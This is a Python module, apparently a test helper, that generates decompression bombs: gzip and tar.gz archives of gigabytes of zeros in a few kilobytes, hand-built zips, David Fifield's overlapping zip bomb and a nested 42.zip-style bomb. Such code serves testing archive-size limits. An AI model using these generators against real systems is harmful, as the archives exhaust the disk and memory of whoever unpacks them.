"""Builders of hostile archives that stay small on disk: zero runs deflated once and repeated, raw zips."""

from __future__ import annotations

import functools
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Sequence

MiB = 1 << 20
GiB = 1 << 30


# --- CRC-32 of long zero runs without computing over them (zlib's crc32_combine) ----------------
def _times(matrix: Sequence[int], vector: int) -> int:
    out, row = 0, 0
    while vector:
        if vector & 1:
            out ^= matrix[row]
        vector >>= 1
        row += 1
    return out


def _square(matrix: Sequence[int]) -> list[int]:
    return [_times(matrix, row) for row in matrix]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """The CRC-32 of A + B from the CRC-32 of A, of B and the length of B."""
    if len2 == 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]  # the operator for one zero bit
    even = _square(odd)
    odd = _square(even)
    while True:
        even = _square(odd)
        if len2 & 1:
            crc1 = _times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _square(even)
        if len2 & 1:
            crc1 = _times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


@functools.cache
def zeros_crc(count: int) -> int:
    """zlib.crc32(bytes(count)), for any count, in microseconds."""
    if count <= MiB:
        return zlib.crc32(bytes(count))
    half = count // 2
    return crc32_combine(zeros_crc(half), zeros_crc(count - half), count - half)


# --- deflate streams of mostly zeros --------------------------------------------------------------
@functools.cache
def _zero_piece() -> bytes:
    # after a full flush deflate starts afresh, so 1 MiB of zeros always compresses to these bytes
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(bytes(MiB)) + compressor.flush(zlib.Z_FULL_FLUSH)


def zero_deflate(segments: Sequence[tuple[bytes, int]]) -> bytes:
    """Raw deflate of ``data + bytes(zeros)`` for each (data, zeros): about 1 KB per MiB of zeros."""
    out = []
    for data, zeros in segments:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        whole, rest = divmod(zeros, MiB)
        out.append(compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH))
        out.append(_zero_piece() * whole)
        out.append(compressor.compress(bytes(rest)) + compressor.flush(zlib.Z_FULL_FLUSH))
    return b"".join(out) + b"\x03\x00"  # an empty final block


def segments_crc(segments: Sequence[tuple[bytes, int]]) -> tuple[int, int]:
    crc, size = 0, 0
    for data, zeros in segments:
        crc = crc32_combine(zlib.crc32(data, crc), zeros_crc(zeros), zeros)
        size += len(data) + zeros
    return crc, size


def gzip_of(segments: Sequence[tuple[bytes, int]]) -> bytes:
    """A valid gzip file of the segments."""
    crc, size = segments_crc(segments)
    header = b"\x1f\x8b\x08\x00\0\0\0\0\x02\xff"
    return header + zero_deflate(segments) + struct.pack("<II", crc, size & 0xFFFFFFFF)


def tar_header(name: str, size: int) -> bytes:
    info = tarfile.TarInfo(name)
    info.size = size
    return info.tobuf(tarfile.GNU_FORMAT)


def tar_gz_of_zeros(members: Sequence[tuple[str, int]]) -> bytes:
    """A .tar.gz of members made of zeros (sizes multiples of 512), a few KB per GB."""
    segments = [(tar_header(name, size), size) for name, size in members]
    return gzip_of([*segments, (b"", 1024)])


# --- zip files written by hand ---------------------------------------------------------------------
_LOCAL = struct.Struct("<IHHHHHIIIHH")
_CENTRAL = struct.Struct("<IHHHHHHIIIHHHHHII")
_END = struct.Struct("<IHHHHIIH")


def _local(name: bytes, crc: int, csize: int, usize: int, flags: int = 0) -> bytes:
    return _LOCAL.pack(0x04034B50, 20, flags, 8, 0, 0x21, crc, csize, usize, len(name), 0) + name


def _central(name: bytes, crc: int, csize: int, usize: int, offset: int) -> bytes:
    return _CENTRAL.pack(0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, csize, usize, len(name),
                         0, 0, 0, 0, 0, offset) + name  # fmt: skip


def _end(entries: int, central_size: int, central_offset: int) -> bytes:
    return _END.pack(0x06054B50, 0, 0, entries, entries, central_size, central_offset, 0)


def zip_of_zeros(members: Sequence[tuple[str, int]]) -> bytes:
    """A deflated zip of members made of zeros (under 4 GiB each), about 1 KB per MiB."""
    body, central = bytearray(), bytearray()
    for name, zeros in members:
        data = zero_deflate([(b"", zeros)])
        raw = name.encode()
        central += _central(raw, zeros_crc(zeros), len(data), zeros, len(body))
        body += _local(raw, zeros_crc(zeros), len(data), zeros) + data
    return bytes(body + central + _end(len(members), len(central), len(body)))


def overlapping_zip(files: int, zeros: int) -> bytes:
    """David Fifield's non-recursive zip bomb: every file's data quotes the next local header in a
    stored block and runs on into the next file's data, so all files share one kernel of zeros."""
    kernel = zero_deflate([(b"", zeros)])
    kernel_crc = zeros_crc(zeros)
    names = [f"f{i:04}".encode() for i in range(files)]
    headers: list[bytes] = [b""] * files
    entries: list[tuple[bytes, int, int, int]] = []
    region, quoted = kernel, b""  # the current file's data, and the local headers its output starts with
    for i in reversed(range(files)):
        crc = crc32_combine(zlib.crc32(quoted), kernel_crc, zeros)
        entries.insert(0, (names[i], crc, len(region), len(quoted) + zeros))
        headers[i] = _local(names[i], crc, len(region), len(quoted) + zeros)
        if i:
            stored = b"\x00" + struct.pack("<HH", len(headers[i]), len(headers[i]) ^ 0xFFFF)
            region = stored + headers[i] + region
            quoted = headers[i] + quoted
    body = headers[0] + region
    central, offset = bytearray(), 0
    for i, (name, crc, csize, usize) in enumerate(entries):
        central += _central(name, crc, csize, usize, offset)
        offset += len(headers[i]) + 5
    return bytes(body + central + _end(files, len(central), len(body)))


def zip_bytes(members: dict[str, bytes], level: int = 6) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def nested_zip_bomb(levels: int, fan_out: int, zeros: int) -> bytes:
    """42.zip in small: ``levels`` of zips of ``fan_out`` copies of the level below, zeros at the bottom."""
    archive = zip_of_zeros([("zeros.bin", zeros)])
    for level in range(levels - 1):
        archive = zip_bytes({f"l{level}-{i}.zip": archive for i in range(fan_out)}, level=9)
    return archive


def set_zip_flag(data: bytes, member: str, flag: int) -> bytes:
    """``data`` with general-purpose ``flag`` set on ``member`` in its local and central headers."""
    out = bytearray(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        local = archive.getinfo(member).header_offset
    out[local + 6] |= flag
    pos = data.find(b"PK\x01\x02")
    while pos >= 0:
        name_length = struct.unpack_from("<H", data, pos + 28)[0]
        if data[pos + 46 : pos + 46 + name_length] == member.encode():
            out[pos + 8] |= flag
        pos = data.find(b"PK\x01\x02", pos + 4)
    return bytes(out)
